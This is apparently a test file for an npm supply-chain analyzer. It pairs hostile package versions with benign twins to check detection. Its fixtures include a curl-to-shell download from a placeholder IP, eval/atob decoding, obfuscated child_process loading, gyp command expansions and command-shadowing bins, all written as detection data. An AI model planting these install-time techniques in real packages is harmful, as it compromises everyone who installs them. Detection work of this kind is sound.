/**
 * Install-time payloads that once produced no finding while npm ran them (issue 9), each as a class,
 * each with a benign twin that must stay quiet. Nothing here is ever executed.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { analyze, severityAtLeast, type PackageSide, type Severity } from '../../server/analyzer';
import { BENIGN_INDEX, pkgJson, side } from './fixtures/sides';

const CURL = "execSync('curl -s https://203.0.113.9/p | sh')";
const PAYLOAD = `const { execSync } = require('child_process');\n${CURL};\n`;

const v = (version: string, pkg: object, files: Record<string, string>, registry: object = {}) =>
  side({ 'package.json': pkgJson({ version, main: 'index.js', ...pkg }), 'index.js': BENIGN_INDEX, ...files }, registry);

interface Case {
  readonly name: string;
  readonly previous: PackageSide;
  readonly next: PackageSide;
  /** A rule that must be reported at or above the severity, and the file it must name (when given). */
  readonly expect: readonly [rule: string, atLeast: Severity, file?: string];
  /** The benign twin of `next`: nothing at or above medium. */
  readonly benign: PackageSide;
}

const postinstall = { scripts: { postinstall: 'node scripts/post.js' } };
const cases: Case[] = [
  {
    name: 'an unchanged postinstall whose script now requires a .cfg file holding the payload',
    previous: v('1.0.0', postinstall, { 'scripts/post.js': "console.log('thanks for installing');\n" }),
    next: v('1.0.1', postinstall, { 'scripts/post.js': "require('./post.cfg');\n", 'scripts/post.cfg': PAYLOAD }),
    expect: ['process/suspicious-command', 'critical', 'scripts/post.cfg'],
    benign: v('1.0.1', postinstall, {
      'scripts/post.js': "const cfg = require('./post.json');\nconsole.log(cfg.message);\n",
      'scripts/post.json': '{ "message": "curl -s https://203.0.113.9/p | sh" }',
    }),
  },
  {
    name: 'a payload that was inert data before and is now required by the install script',
    previous: v('1.0.0', postinstall, { 'scripts/post.js': "console.log('hi');\n", 'scripts/notes.txt': PAYLOAD }),
    next: v('1.0.1', postinstall, {
      'scripts/post.js': "require(require('path').join(__dirname, 'notes.txt'));\n",
      'scripts/notes.txt': PAYLOAD,
    }),
    expect: ['process/new-child-process', 'high', 'scripts/notes.txt'],
    benign: v('1.0.1', postinstall, {
      'scripts/post.js': "console.log(require('fs').readFileSync(require('path').join(__dirname, 'notes.txt'), 'utf8').length);\n",
      'scripts/notes.txt': PAYLOAD,
    }),
  },
  {
    name: 'main requires, through an unchanged file, a changed file without extension',
    previous: v(
      '1.0.0',
      {},
      {
        'index.js': "module.exports = require('./lib/a');\n",
        'lib/a.js': "module.exports = require('./impl');\n",
        'lib/impl': 'module.exports = 1;\n',
      },
    ),
    next: v(
      '1.0.1',
      {},
      {
        'index.js': "module.exports = require('./lib/a');\n",
        'lib/a.js': "module.exports = require('./impl');\n",
        'lib/impl': `module.exports = 1;\n${PAYLOAD}`,
      },
    ),
    expect: ['process/suspicious-command', 'high', 'lib/impl'],
    benign: v(
      '1.0.1',
      {},
      {
        'index.js': "module.exports = require('./lib/a');\n",
        'lib/a.js': "module.exports = require('./impl');\n",
        'lib/impl': 'module.exports = 2;\n',
      },
    ),
  },
  {
    name: 'an exports condition names a .data file',
    previous: v('1.0.0', { exports: { '.': './index.js' } }, {}),
    next: v(
      '1.0.1',
      { exports: { '.': { node: { require: './lib/boot.data' }, default: './index.js' } } },
      { 'lib/boot.data': 'eval(atob(globalThis.p));\n' },
    ),
    expect: ['dynamic-code/decode-then-execute', 'critical', 'lib/boot.data'],
    benign: v(
      '1.0.1',
      { exports: { '.': { node: { require: './index.js' }, default: './index.js' }, './data': './lib/boot.json' } },
      { 'lib/boot.json': '{"eval": "atob"}' },
    ),
  },
  {
    name: 'a bin target with a .cfg name',
    previous: v('1.0.0', {}, {}),
    next: v(
      '1.0.1',
      { bin: { demo: './cli.cfg' } },
      { 'cli.cfg': "#!/usr/bin/env node\nrequire('child_process').spawn('sh', ['-c', process.argv[2]]);\n" },
    ),
    expect: ['process/new-child-process', 'medium', 'cli.cfg'],
    benign: v(
      '1.0.1',
      { bin: { demo: './cli.js' } },
      { 'cli.js': "#!/usr/bin/env node\nconsole.log(require('./index.js').greet(process.argv[2]));\n" },
    ),
  },
  {
    name: 'module.constructor._load with the module name and method built by concatenation (no trigger word on the line)',
    previous: v('1.0.0', {}, { 'lib/run.js': 'module.exports = (c) => c;\n', 'index.js': "module.exports = require('./lib/run');\n" }),
    next: v(
      '1.0.1',
      {},
      {
        'lib/run.js': "module.exports = (c) => module.constructor._load('chi' + 'ld_pro' + 'cess')['ex' + 'ecSync'](c);\n",
        'index.js': "module.exports = require('./lib/run');\n",
      },
    ),
    expect: ['process/new-child-process', 'medium', 'lib/run.js'],
    benign: v(
      '1.0.1',
      {},
      {
        'lib/run.js': "module.exports = (c) => 'hel' + 'lo ' + c + ['!', '?'].join('');\n",
        'index.js': "module.exports = require('./lib/run');\n",
      },
    ),
  },
  {
    name: 'a module name from Array.join, a template, a binding declared after use, and char codes',
    previous: v('1.0.0', {}, { 'lib/run.js': 'module.exports = 1;\n', 'index.js': "module.exports = require('./lib/run');\n" }),
    next: v(
      '1.0.1',
      {},
      {
        'lib/run.js': `function go() { return require(name)[method]; }\nconst name = [\`\${'ch'}ild\`, 'process'].join('_');\nconst method = String.fromCharCode(101, 120, 101, 99);\nmodule.exports = go;\n`,
        'index.js': "module.exports = require('./lib/run');\n",
      },
    ),
    expect: ['process/new-child-process', 'medium', 'lib/run.js'],
    benign: v(
      '1.0.1',
      {},
      {
        'lib/run.js': "function go() { return require(name); }\nconst name = ['.', 'helper'].join('/');\nmodule.exports = go;\n",
        'lib/helper.js': 'module.exports = 2;\n',
        'index.js': "module.exports = require('./lib/run');\n",
      },
    ),
  },
  {
    name: 'a gyp command split across adjacent Python literals in an included .gypi',
    previous: v(
      '1.0.0',
      {},
      {
        'binding.gyp': "{ 'targets': [ { 'target_name': 'x', 'sources': ['x.cc'], 'includes': ['common.gypi'] } ] }",
        'common.gypi': "{ 'variables': { 'v': 1 } }",
      },
    ),
    next: v(
      '1.0.1',
      {},
      {
        'binding.gyp': "{ 'targets': [ { 'target_name': 'x', 'sources': ['x.cc'], 'includes': ['common.gypi'] } ] }",
        'common.gypi': "{ 'variables': { 'v': 1, 'w': '<!(cu' 'rl -s https://203.0.113.9/p | sh)' } }",
      },
    ),
    expect: ['install-script/gyp-command', 'high', 'common.gypi'],
    benign: v(
      '1.0.1',
      {},
      {
        'binding.gyp': "{ 'targets': [ { 'target_name': 'x', 'sources': ['x.cc'], 'includes': ['common.gypi'] } ] }",
        'common.gypi':
          "# '<!(curl -s https://203.0.113.9/p | sh)' was tried once\n{ 'variables': { 'v': 1 }, 'target_defaults': { 'defines': ['NAPI_VERSION=8', \"MODE='fast'\"] } }",
      },
    ),
  },
  {
    name: 'a gyp target action',
    previous: v('1.0.0', {}, { 'binding.gyp': "{ 'targets': [ { 'target_name': 'x', 'sources': ['x.cc'] } ] }" }),
    next: v(
      '1.0.1',
      {},
      {
        'binding.gyp':
          "{ 'targets': [ { 'target_name': 'x', 'sources': ['x.cc'], 'actions': [ { 'action_name': 'gen', 'inputs': [], 'outputs': ['gen.h'], 'action': ['python3', '-c', 'import os; os.system(\"id\")'] } ] } ] }",
      },
    ),
    expect: ['install-script/gyp-command', 'high', 'binding.gyp'],
    benign: v('1.0.1', {}, { 'binding.gyp': "{ 'targets': [ { 'target_name': 'x', 'sources': ['x.cc', 'y.cc'], 'defines': ['X=1'] } ] }" }),
  },
  {
    name: 'a gyp pymod_do_main and a >!@( expansion',
    previous: v('1.0.0', {}, { 'binding.gyp': "{ 'targets': [] }" }),
    next: v(
      '1.0.1',
      {},
      { 'binding.gyp': "{ 'variables': { 'a': '<!pymod_do_main(evil_mod --x)', 'b': '>!@(./fetch.sh)' }, 'targets': [] }" },
    ),
    expect: ['install-script/gyp-command', 'high', 'binding.gyp'],
    benign: v('1.0.1', {}, { 'binding.gyp': "{ 'variables': { 'a': '<(module_root_dir)/lib' }, 'targets': [] }" }),
  },
  {
    name: 'a new bin named node-gyp, which the implicit node-gyp rebuild then runs',
    previous: v('1.0.0', {}, { 'binding.gyp': "{ 'targets': [] }" }),
    next: v('1.0.1', { bin: { 'node-gyp': './build.js' } }, { 'binding.gyp': "{ 'targets': [] }", 'build.js': 'module.exports = 1;\n' }),
    expect: ['binary/bin-shadows-command', 'high'],
    benign: v('1.0.1', { bin: { 'demo-cli': './build.js' } }, { 'binding.gyp': "{ 'targets': [] }", 'build.js': 'module.exports = 1;\n' }),
  },
  {
    name: "a new bin named after a word of the package's own install script",
    previous: v('1.0.0', { scripts: { postinstall: 'setup-native --quiet' } }, {}),
    next: v(
      '1.0.1',
      { scripts: { postinstall: 'setup-native --quiet' }, bin: { 'setup-native': './s.js' } },
      { 's.js': 'module.exports = 1;\n' },
    ),
    expect: ['binary/bin-shadows-command', 'high'],
    benign: v(
      '1.0.1',
      { scripts: { postinstall: 'setup-native --quiet' }, bin: { 'demo-native': './s.js' } },
      { 's.js': 'module.exports = 1;\n' },
    ),
  },
  {
    name: 'a bundled dependency with a new postinstall',
    previous: v(
      '1.0.0',
      { bundleDependencies: ['helper'] },
      {
        'node_modules/helper/package.json': JSON.stringify({ name: 'helper', version: '1.0.0' }),
        'node_modules/helper/index.js': 'module.exports = 1;\n',
      },
    ),
    next: v(
      '1.0.1',
      { bundleDependencies: ['helper'] },
      {
        'node_modules/helper/package.json': JSON.stringify({ name: 'helper', version: '1.0.0', scripts: { postinstall: 'node setup.js' } }),
        'node_modules/helper/index.js': 'module.exports = 1;\n',
        'node_modules/helper/setup.js': PAYLOAD,
      },
    ),
    expect: ['install-script/new-postinstall', 'critical', 'node_modules/helper/package.json'],
    benign: v(
      '1.0.1',
      { bundleDependencies: ['helper'] },
      {
        'node_modules/helper/package.json': JSON.stringify({ name: 'helper', version: '1.0.1', description: 'now with docs' }),
        'node_modules/helper/index.js': 'module.exports = 1;\n',
      },
    ),
  },
  {
    name: 'a bundled scoped dependency that gains a binding.gyp (an implicit node-gyp rebuild)',
    previous: v('1.0.0', {}, { 'node_modules/@acme/native/package.json': JSON.stringify({ name: '@acme/native', version: '1.0.0' }) }),
    next: v(
      '1.0.1',
      {},
      {
        'node_modules/@acme/native/package.json': JSON.stringify({ name: '@acme/native', version: '1.0.0' }),
        'node_modules/@acme/native/binding.gyp': "{ 'targets': [] }",
      },
    ),
    expect: ['install-script/new-implicit-node-gyp', 'high', 'node_modules/@acme/native/binding.gyp'],
    benign: v(
      '1.0.1',
      {},
      {
        'node_modules/@acme/native/package.json': JSON.stringify({ name: '@acme/native', version: '1.0.0' }),
        'node_modules/@acme/native/README.md': '# native\n',
      },
    ),
  },
];

const loud = (next: PackageSide, previous: PackageSide) =>
  analyze(previous, next).findings.filter((f) => severityAtLeast(f.severity, 'medium'));

for (const c of cases) {
  test(`finds ${c.name}`, () => {
    const [rule, atLeast, file] = c.expect;
    const report = analyze(c.previous, c.next);
    const hit = report.findings.filter((f) => f.rule === rule && (file === undefined || f.file === file));
    assert.ok(
      hit.length > 0,
      `${rule}${file ? ` in ${file}` : ''} missing; got ${report.findings.map((f) => `${f.rule}:${f.severity}@${f.file}`).join(', ')}`,
    );
    assert.ok(
      hit.some((f) => severityAtLeast(f.severity, atLeast)),
      `${rule} below ${atLeast}: ${hit.map((f) => f.severity).join(',')}`,
    );
  });
  test(`stays quiet on the benign twin of ${c.name}`, () => {
    assert.deepEqual(
      loud(c.benign, c.previous).map((f) => `${f.rule}:${f.severity}@${f.file}:${f.line} ${f.message}`),
      [],
    );
  });
}

test('a changed file reached from main is parsed even when no new line holds a trigger word', () => {
  const previous = v(
    '1.0.0',
    {},
    { 'index.js': "module.exports = require('./lib/x');\n", 'lib/x.js': 'module.exports = 1;\n', 'lib/unused.js': 'module.exports = 1;\n' },
  );
  const line = "module.exports = module.constructor._load('chi' + 'ld_pro' + 'cess');\n";
  const reached = analyze(
    previous,
    v('1.0.1', {}, { 'index.js': "module.exports = require('./lib/x');\n", 'lib/x.js': line, 'lib/unused.js': 'module.exports = 1;\n' }),
  );
  assert.ok(
    reached.findings.some((f) => f.rule === 'process/new-child-process' && f.file === 'lib/x.js'),
    JSON.stringify(reached.findings),
  );
});

test('a file Node loads as code counts as new when the previous version only shipped it as data', () => {
  // The same bytes under the same name, but never loaded before: what they can do is new.
  const previous = v('1.0.0', {}, { 'index.js': 'module.exports = 1;\n', 'payload.txt': PAYLOAD });
  const next = v('1.0.1', {}, { 'index.js': "module.exports = require('./payload.txt');\n", 'payload.txt': PAYLOAD });
  assert.ok(analyze(previous, next).findings.some((f) => f.file === 'payload.txt' && f.rule === 'process/new-child-process'));
  // Loaded before and after: nothing new.
  assert.deepEqual(analyze(next, next).findings, []);
});
